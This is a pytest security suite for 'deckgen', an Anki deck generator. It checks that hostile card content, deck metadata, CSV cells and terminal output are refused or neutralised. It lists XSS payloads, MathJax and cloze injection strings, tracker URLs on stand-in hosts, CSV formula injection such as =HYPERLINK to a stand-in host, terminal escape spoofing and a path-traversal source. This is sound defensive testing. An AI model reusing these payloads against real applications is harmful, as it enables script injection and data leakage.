"""An attacker's pull request against the HTML, URLs, TeX, CSV and terminal that learners get.

Each case is refused by lint with its `path:line`, and where a value is allowed through, every
output is audited as an attacker would read it: the official `anki` package renders every card,
CSV cells are read as a spreadsheet would, and the CLI's output is checked for escape codes.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deckgen.build import build
from deckgen.cache import Cache
from deckgen.cli import cli
from deckgen.compile import compile_deck
from deckgen.errors import DeckgenError, DiagnosticSink
from deckgen.lint import lint_deck
from deckgen.load import load_sources
from deckgen.model import Deck
from deckgen.render import CardRenderer
from deckgen.safety import csv_cell, printable, url_problem
from deckgen.sanitize import sanitize
from tests.conftest import FIXTURES
from tests.htmlaudit import anki_cloze, audit

FRONT = "---\ntopic: rust\n---\n\n"


def findings(cards: Path) -> list[str]:
    result = lint_deck(cards, print_check=False)
    return [f"{d.location.display(cards.parent)}: {d.code} {d.message}" for d in result.diagnostics]


def card(card_id: str, body: str) -> str:
    return f"## {card_id}\n{body}\n\nSource: RFC 9293\n"


# --------------------------------------------------------------------------- cards


MARKDOWN_ATTACKS = [
    # MathJax: links, styles and remote loads in TeX, however the delimiters are spelt
    (r"Q: \(\href{javascript:alert(1)}{x}\)", "TeX command '\\href' is not allowed"),
    (r"Q: \(\style{background-image:url(https://t.example/x)}{y}\)", "'\\style' is not allowed"),
    (r"Q: \\(\href{javascript:alert(1)}{x}\\)", "TeX command '\\href' is not allowed"),
    (r"Q: &#92;(\class{x}{y}&#92;)", "TeX command '\\class' is not allowed"),
    (r"Q: \[\require{html}\]", "TeX command '\\require' is not allowed"),
    (r"Q: \begin{matrix}\cssId{a}{b}\end{matrix}", "TeX command '\\cssId' is not allowed"),
    (r"Q: \(\unicode[https://t.example/f]{x41}\)", "'\\unicode' is not allowed"),
    (r"Q: \(\def\x{\href{javascript:1}{y}}\x\)", "TeX command '\\def' is not allowed"),
    (r"Q: half open \\(x^2", "math delimiter '\\(' is never closed"),
    ("Q: `\\(\\href{javascript:1}{x}\\)`", "'\\href' is not allowed (in code that MathJax"),
    # Cloze markup inside attributes, where Anki's cloze pass breaks out of them
    (
        "Q: <abbr title='{{c1::a}} <img src=x onerror=alert(1)>'>t</abbr>",
        "'{{', '}}' or '::' inside the 'title' attribute of <abbr>",
    ),
    ('Q: <span class="{{c1::x}}">y</span>', "inside the 'class' attribute of <span>"),
    ('Q: [l](https://a.example "{{c1::y}}")', "in an image's alt text or a link's title"),
    # '::' ends a cloze answer (the hint separator) inside an attribute, entity-encoded too
    (
        'Cloze: {{c1::![::](../net/img/handshake.png)}}<i class="onload=alert(1) ">x</i>',
        "'::' in an image's alt text or a link's title",
    ),
    ("Cloze: {{c1::![&#58;&#58;](../net/img/handshake.png)}}<i>x</i>", "or '::' in an image's"),
    ('Cloze: {{c1::<b title="::">r</b>}} <i class="style=x">y</i>', "or '::' inside the 'title'"),
    # MathJax closes math only outside braces and skips \\-escapes; cloze and code reshape it
    (r"Q: \(a \\) \href{javascript:alert(5)}{click} \\\\(b\\)", "'\\href' is not allowed"),
    (r"Q: \(a{\) \href{javascript:alert(1)}{click} \(}\)", "'\\href' is not allowed"),
    (r"Cloze: \(a{{c1::\)}}\mathrm{x}{{c1::\(}}b\)", "TeX '\\)' is not allowed"),
    (
        r'Q: <code class="mathjax_process">\\) \(\href{javascript:1}{c}\)</code>',
        "'\\href' is not allowed (in code that MathJax could read)",
    ),
    # URLs a browser would fetch or follow somewhere else
    ('Q: <img src="/\\tracker/x">', "remote or inline resource '/\\tracker/x'"),
    ('Q: <img src="\\\\tracker\\x">', "remote or inline resource"),
    ('Q: <img src="//tracker.example/x.png">', "remote or inline resource"),
    ('Q: <a href="//tracker.example/">x</a>', "scheme-relative URL"),
    ('Q: <a href="/\\tracker.example/">x</a>', "contains a space, backslash or control"),
    ('Q: <a href="java&#x09;script:alert(1)">x</a>', "contains a space, backslash or control"),
    ('Q: <a href="&#106;avascript:alert(1)">x</a>', "URL scheme 'javascript:' is not allowed"),
    ("Q: [x](vbscript:msgbox)", "URL scheme 'vbscript:' is not allowed"),
    ("Q: [x](https://user@evil.example/)", "has no plain host name"),
    ('Q: <img src="local.png">', "raw <img> is not allowed"),
    # Sources get every check a field gets, and only absolute https/http links
    ("Q: a\n\nA: b\n\nSource: smb://host/share", "URL scheme 'smb:' is not allowed in 'Source:'"),
    ("Q: a\n\nA: b\n\nSource: [x](../../etc/passwd)", "'../../etc/passwd' is not an absolute"),
    ("Q: a\n\nA: b\n\nSource: <b onclick=alert(1)>x</b>", "event-handler attribute 'onclick'"),
    ("Q: a\n\nA: b\n\nSource: <img src=x>", "raw <img> is not allowed"),
    ("Q: a\n\nA: b\n\nSource: [x](javascript:alert(1))", "URL scheme 'javascript:'"),
]


@pytest.mark.parametrize(("body", "expected"), MARKDOWN_ATTACKS)
def test_hostile_card_content_is_a_located_error(
    sample_cards: Path, write_card: Callable[[str, str], Path], body: str, expected: str
) -> None:
    if "\n\nA:" not in body and not body.startswith("Cloze:"):
        body += "\n\nA: ok"
    write_card("lang/evil.md", FRONT + card("rust-evil", body))
    found = [f for f in findings(sample_cards) if f.startswith("cards/lang/evil.md:")]
    assert any(" DG404 " in f and expected in f for f in found), found


def test_plain_math_and_ordinary_links_still_pass(
    sample_cards: Path, write_card: Callable[[str, str], Path]
) -> None:
    body = (
        r"Q: What is \(\frac{a}{b} \le \sqrt{x_1^2}\) and \[\sum_{i=1}^{n} i\]?"
        "\n\nA: See [RFC 9293](https://www.rfc-editor.org/rfc/rfc9293#section-3.1) and "
        '<abbr title="Transmission Control Protocol">TCP</abbr>; `re := \\(\\d+\\)`.'
    )
    write_card("lang/fine.md", FRONT + card("rust-fine", body))
    assert [f for f in findings(sample_cards) if "fine.md" in f and "DG404" in f] == []


# --------------------------------------------------------------------------- deck metadata


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("repository", "'javascript:alert(1)//x'", "deck 'repository' URL scheme 'javascript:'"),
        ("repository", "'https://x.example/{{#Front}}'", "contains '{{' or '}}'"),
        ("repository", "'https://x.example/a?b=c'", "must be a plain https:// address"),
        ("repository", "'http://x.example/repo'", "must be a plain https:// address"),
        ("name", "'<img src=x onerror=alert(1)>'", "deck 'name' may use letters, digits"),
        ("name", "'Deck::Injected'", "deck 'name' must not contain '::'"),
        ("name", "'=HYPERLINK(\"https://x\")'", "deck 'name' may use letters"),
        ("description", "'a {{c1::b}}'", "deck 'description' contains '{{' or '}}'"),
        ("description", "'\\(\\href{javascript:1}{x}\\)'", "contains a math delimiter"),
        ("description", '"a\\x1b[2Jb"', "contains control or formatting characters"),
    ],
)
def test_hostile_deck_metadata_is_refused(
    sample_cards: Path, key: str, value: str, expected: str
) -> None:
    deck_file = sample_cards / "deck.yaml"
    lines = [ln for ln in deck_file.read_text().splitlines() if not ln.startswith(f"{key}:")]
    deck_file.write_text("\n".join([*lines, f"{key}: {value}"]) + "\n")
    found = findings(sample_cards)
    assert any(
        f.startswith("cards/deck.yaml:") and " DG110 " in f and expected in f for f in found
    ), found


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("<img src=x onerror=alert(1)>", "'title' may use letters, digits"),
        ("Rust::Injected", "'title' must not contain '::'"),
        ("\\(\\href{javascript:1}{x}\\)", "'title' may use letters"),
        ("@SUM(1+1)", "'title' may use letters"),
    ],
)
def test_hostile_syllabus_titles_are_refused(sample_cards: Path, title: str, expected: str) -> None:
    import yaml

    syllabus = sample_cards / "syllabus.yaml"
    data = yaml.safe_load(syllabus.read_text())
    data["sections"][0]["title"] = title
    syllabus.write_text(yaml.safe_dump(data))
    found = findings(sample_cards)
    assert any(f.startswith("cards/syllabus.yaml:") and expected in f for f in found), found


def test_escaped_description_reaches_anki_as_text(
    sample_cards: Path, tmp_path: Path, epoch: Callable[[int], None]
) -> None:
    from tests.ankiutil import import_package, open_collection

    deck_file = sample_cards / "deck.yaml"
    kept = [ln for ln in deck_file.read_text().splitlines() if not ln.startswith("description:")]
    deck_file.write_text(
        "\n".join([*kept, "description: 'Read <b>this</b> & <img src=x onerror=alert(1)>'\n"])
    )
    (package,) = build(sample_cards, tmp_path / "dist", formats=["apkg"]).paths
    col = open_collection(tmp_path / "anki")
    try:
        import_package(col, package)
        name = load_sources(sample_cards).info.name
        deck = col.decks.by_name(name)
        assert deck is not None
        assert "<img" not in deck["desc"] and "&lt;img src=x onerror=alert(1)&gt;" in deck["desc"]
    finally:
        col.close()


# --------------------------------------------------------------------------- outputs


HOSTILE_FRAGMENTS = [
    "<abbr title='{{c1::a}} <img src=x onerror=alert(1)>'>t</abbr>",
    '<a href="/\\tracker/x">x</a><img src="\\\\tracker\\x"><img src="/\\tracker/x">',
    '<a href="java\tscript:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">y</a>',
    '<img src="x.png" onerror="alert(1)"><svg onload=alert(1)><math><mi xlink:href="javascript:1">',
    '<p style="background:url(https://t.example/x)">s</p><style>@import url(//t.example)</style>',
    '<a href="https://ok.example/" title="{{c2::x}}">{{c1::ok}}</a>',
    "<iframe src=https://t.example></iframe><object data=x></object><form action=//t></form>",
    '<span class="x" data-x="{{c1::y}}" id="z">{{c1::<b>bold</b>::hint}}</span>',
    '{{c1::<img alt="::" src="x.png">}}<i class="onload=alert(1) ">x</i>',
    '{{c1::<b title="&#58;&#58;">r</b>}} <i class="style=background:url(https://t.example)">y</i>',
]


@pytest.mark.parametrize("fragment", HOSTILE_FRAGMENTS)
def test_sanitized_html_survives_anki_cloze_pass(fragment: str) -> None:
    """Even if lint were skipped, what the sanitizer lets through stays inert after Anki's
    cloze substitution (front and back) and after deckgen's own site rendering."""
    from deckgen.faces import cloze_faces

    clean = sanitize(fragment)
    outputs = [clean, anki_cloze(clean, reveal=False), anki_cloze(clean, reveal=True)]
    outputs.extend(cloze_faces(clean))
    for output in outputs:
        assert audit(output) == [], (fragment, output)


def test_anki_renders_hostile_fields_inert(sample_cards: Path, tmp_path: Path) -> None:
    """The official `anki` package renders notes whose fields hold the sanitizer's output of
    every hostile fragment, in deckgen's own note types: nothing active reaches the card."""
    from tests.ankiutil import import_package, open_collection

    os.environ["SOURCE_DATE_EPOCH"] = "1700000000"
    try:
        (package,) = build(sample_cards, tmp_path / "dist", formats=["apkg"]).paths
    finally:
        del os.environ["SOURCE_DATE_EPOCH"]
    col = open_collection(tmp_path / "anki")
    try:
        import_package(col, package)
        models = {m["name"].rsplit(" · ", 1)[-1]: m for m in col.models.all()}
        deck_id = col.decks.id_for_name("Default") or 1
        for fragment in HOSTILE_FRAGMENTS:
            for label, field in (("Basic", "Front"), ("Cloze", "Text")):
                note = col.new_note(models[label])
                note[field] = sanitize(fragment) + " {{c1::anchor}}"
                col.add_note(note, deck_id)
                for anki_card in note.cards():
                    for side in (anki_card.question(), anki_card.answer()):
                        assert audit(side, allow_styles=True) == [], (fragment, side)
    finally:
        col.close()


def test_every_card_of_the_real_deck_renders_inert_in_anki(tmp_path: Path) -> None:
    from tests.ankiutil import import_package, open_collection
    from tests.conftest import PROJECT

    # The build's own clock: the deck has a recorded release, and an older clock is refused.
    (package,) = build(PROJECT / "cards", tmp_path / "dist", formats=["apkg"]).paths
    col = open_collection(tmp_path / "anki")
    try:
        import_package(col, package)
        ids = col.find_cards("")
        assert len(ids) >= 379
        for card_id in ids:
            anki_card = col.get_card(card_id)
            for side in (anki_card.question(), anki_card.answer()):
                assert audit(side, allow_styles=True) == [], (card_id, side[:500])
    finally:
        col.close()


def test_csv_cells_never_start_a_formula(
    sample_cards: Path,
    write_card: Callable[[str, str], Path],
    tmp_path: Path,
    epoch: Callable[[int], None],
) -> None:
    # An HTML comment is dropped by the sanitizer, so the field would start with its text.
    write_card(
        "lang/formula.md",
        FRONT
        + card("rust-formula", 'Q: <!-- -->=HYPERLINK("https://t.example/?"&A1)\n\nA: <!-- -->-2+3')
        + "\n"
        + card("rust-formula-two", "Q: <!-- -->@SUM(A1)\n\nA: <!-- -->+1"),
    )
    paths = build(sample_cards, tmp_path / "dist", formats=["csv", "tsv"]).paths
    cells = []
    for path in paths:
        text = path.read_text(encoding="utf-8")
        body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
        delimiter = "\t" if path.suffix == ".tsv" else ","
        cells.extend(c for row in csv.reader(io.StringIO(body), delimiter=delimiter) for c in row)
    assert any(c.startswith("&#61;HYPERLINK") for c in cells), cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cell_neutralises_per_owasp() -> None:
    assert csv_cell("=1+1", html_cell=True) == "&#61;1+1"
    assert csv_cell("-2", html_cell=False) == "'-2"
    assert csv_cell("\t=x", html_cell=False) == "'\t=x"
    assert csv_cell("<p>=1</p>", html_cell=True) == "<p>=1</p>"


def test_csv_neutralised_cell_imports_into_anki_as_the_same_text(
    sample_cards: Path,
    write_card: Callable[[str, str], Path],
    tmp_path: Path,
    epoch: Callable[[int], None],
) -> None:
    from anki.collection import ImportCsvRequest

    from tests.ankiutil import open_collection

    write_card("lang/formula.md", FRONT + card("rust-formula", "Q: <!-- -->=1+1\n\nA: x"))
    paths = build(sample_cards, tmp_path / "dist", formats=["tsv"]).paths
    col = open_collection(tmp_path / "anki")
    try:
        metadata = col.get_csv_metadata(str(paths[0]), None)
        col.import_csv(ImportCsvRequest(path=str(paths[0]), metadata=metadata))
        (note_id,) = col.find_notes('"front:&#61;1+1"') or col.find_notes("rust-formula")
        note = col.get_note(note_id)
        assert note.fields[0] == "&#61;1+1"  # renders as "=1+1" in Anki's HTML fields
    finally:
        col.close()


# --------------------------------------------------------------------------- terminal


def test_escape_sequences_never_reach_the_terminal(
    sample_cards: Path, write_card: Callable[[str, str], Path]
) -> None:
    # YAML's own escapes put ESC, CR, BEL and a bidi override into the value
    fake = "\\e[2K\\rlint passed: 3 cards, 0 errors\\e]0;owned\\a\\u202e"
    write_card(
        "lang/evil.md", f'---\ntopic: "rust{fake}"\n---\n\n' + card("rust-evil", "Q: a\n\nA: b")
    )
    result = CliRunner().invoke(cli, ["lint", "--cards", str(sample_cards), "--no-cache"])
    assert result.exit_code == 1
    output = result.output + (result.stderr if result.stderr_bytes is not None else "")
    assert "\x1b" not in output and "\r" not in output and "\u202e" not in output
    assert "\\u001b[2K" in output
    github = CliRunner().invoke(
        cli, ["lint", "--cards", str(sample_cards), "--no-cache", "--format", "github"]
    )
    assert "\x1b" not in github.output and "::error file=" in github.output


def test_file_names_that_would_fake_output_are_refused(sample_cards: Path) -> None:
    (sample_cards / "lang" / "a:b\x1b[31m.md").write_text(FRONT + card("rust-name", "Q: a\n\nA: b"))
    found = findings(sample_cards)
    assert any(
        "may use letters, digits, '.', '_' and '-' only" in f and "\\u001b" in f for f in found
    ), found
    assert printable("\x1b") == "\\u001b"


# --------------------------------------------------------------------------- clock


def test_a_clock_in_the_future_is_refused(
    sample_cards: Path, tmp_path: Path, epoch: Callable[[int], None]
) -> None:
    epoch(4_102_444_800)  # 2100-01-01
    with pytest.raises(DeckgenError, match="in the future"):
        build(sample_cards, tmp_path / "dist", formats=["apkg"])
    assert not (tmp_path / "dist").exists()


def test_a_commit_dated_2099_is_refused(
    sample_cards: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    date = "2099-01-01T00:00:00Z"
    env = {**os.environ, "GIT_AUTHOR_DATE": date, "GIT_COMMITTER_DATE": date,
           "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com"}  # fmt: skip
    root = sample_cards.parent
    for args in (["init", "-q"], ["add", "cards"], ["commit", "-q", "-m", "from the future"]):
        subprocess.run(["git", *args], cwd=root, env=env, check=True)
    with pytest.raises(DeckgenError, match=r"the time of the last commit\) is 2099"):
        build(sample_cards, tmp_path / "dist", formats=["apkg"])


# --------------------------------------------------------------------------- property


@pytest.fixture(scope="module")
def sample_deck() -> Deck:
    """The sample deck as read, once: the examples only render cards made from its first."""
    # No cache: a module-scoped fixture runs outside the per-test user cache folder.
    return compile_deck(load_sources(FIXTURES / "sample" / "cards"), Cache(None)).deck


_PIECES = st.sampled_from(
    [
        "{{c1::", "}}", "::", "<", ">", '"', "'", "=", "&#", "x27;", "javascript:", "//", "\\",
        "\\(", "\\)", "\\href{", "\\style{", "}", "{", "<img src=", "<a href=", " onerror=",
        "<abbr title=", "<svg onload=", "<script>", "</", "`", "[", "](", ")", "![", "\n\n",
        "https://t.example/", "data:", "<!--", "-->", "&lt;", " ", "x", "**", "<b>", "</b>",
    ]
)  # fmt: skip


@settings(
    max_examples=150,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.lists(_PIECES, min_size=1, max_size=24).map("".join))
def test_no_generated_field_yields_anything_active(sample_deck: Deck, text: str) -> None:
    """Whatever a field holds, rendered with or without lint errors, the HTML that would reach
    Anki or the site holds no script, handler, non-allow-listed URL or remote load, before and
    after the cloze pass."""
    from deckgen.faces import cloze_faces

    deck = sample_deck
    template = deck.cards[0]
    from dataclasses import replace

    from deckgen.model import Text

    probe = replace(template, front=Text(text, template.location.line + 1), back=Text(text, 1))
    renderer = CardRenderer(deck, DiagnosticSink())
    rendered = renderer.render(probe)
    for html_out in (rendered.front, rendered.back, *cloze_faces(rendered.front)):
        for shown in (html_out, anki_cloze(html_out, False), anki_cloze(html_out, True)):
            assert audit(shown) == [], (text, shown)
    # the href attributes of real tags: a text's `&lt;a href="` is no link (text escapes `<`)
    for link in re.findall(r'<[a-z][^>]*\shref="([^"]*)"', rendered.front + rendered.back):
        assert url_problem(link.replace("&amp;", "&")) is None


def test_installed_nh3_escapes_markup_inside_attributes() -> None:
    """Why pyproject pins nh3>=0.3.7: 0.3.0-0.3.6 keep a raw `<img …>` inside an attribute,
    which becomes live markup the moment anything (Anki's cloze pass) breaks the attribute."""
    clean = sanitize('<abbr title="a <img src=x onerror=alert(1)>">t</abbr>')
    assert clean == '<abbr title="a &lt;img src=x onerror=alert(1)&gt;">t</abbr>'
